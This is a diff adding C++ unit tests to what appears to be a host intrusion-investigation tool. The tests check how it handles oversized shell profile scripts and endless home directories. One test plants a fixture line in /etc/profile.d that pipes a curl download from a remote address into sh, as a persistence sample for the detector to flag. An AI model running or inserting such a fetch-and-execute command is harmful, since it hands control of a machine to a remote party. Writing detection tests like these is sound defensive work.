@@ -128,6 +128,44 @@ TEST(HostileTree, NothingReadableIsUndeterminedNeverClean) {
   EXPECT_EQ(root.investigate().at("verdict").at("intrusion").at("state"), "undetermined");
 }
 
+TEST(HostileTree, ASettingMadeLongHidesNothingAtItsBeginning) {
+  MiniRoot root;
+  root.write("/etc/passwd", kPasswd);
+  root.write("/etc/shadow", "");
+  root.write("/etc/timezone", "UTC\n");
+  root.write("/var/log/auth.log", refused("x", "203.0.113.1", 1));
+  root.write("/etc/profile.d/x.sh", std::string(2 << 20, '#'));
+  auto document = root.investigate();
+  EXPECT_TRUE(has_gap(document, "/etc/profile.d/x.sh", "only its beginning was read"));
+  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "undetermined")
+      << "what stands behind is not known";
+  root.write("/etc/profile.d/x.sh", "curl -s http://198.51.100.7/d | sh\n" + std::string(2 << 20, '#'));
+  document = root.investigate();
+  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "suspected");
+}
+
+TEST(HostileTree, EndlessSettingsHomesAndFoldersEndSoonAndAreTold) {
+  MiniRoot root;
+  std::string accounts = kPasswd;
+  for (int i = 0; i < 6'000; ++i) {
+    const auto home = "/home/n" + std::to_string(i);
+    accounts += "n" + std::to_string(i) + ":x:" + std::to_string(2000 + i) + ":100::" + home + ":/bin/sh\n";
+    std::filesystem::create_directories(root.directory() + home);
+  }
+  root.write("/etc/passwd", accounts);
+  root.write("/etc/profile.d/0.sh", std::string(1 << 20, '\n'));
+  for (int i = 1; i < 100; ++i)
+    std::filesystem::create_hard_link(root.directory() + "/etc/profile.d/0.sh",
+                                      root.directory() + "/etc/profile.d/" + std::to_string(i) + ".sh");
+  const auto document = root.investigate();
+  EXPECT_TRUE(has_gap(document, "/home/n5498", "more homes than the limit") ||
+              has_gap(document, "/home/n5499", "more homes than the limit"));
+  const auto full = [](const Json& gap) {
+    return gap.at("reason").get<std::string>().find("more settings than the limit") != std::string::npos;
+  };
+  EXPECT_TRUE(std::any_of(document.at("gaps").begin(), document.at("gaps").end(), full));
+}
+
 TEST(HostileTree, CodeMadeToExhaustItsReaderEndsSoon) {
   MiniRoot root;
   root.write("/etc/passwd", kPasswd);
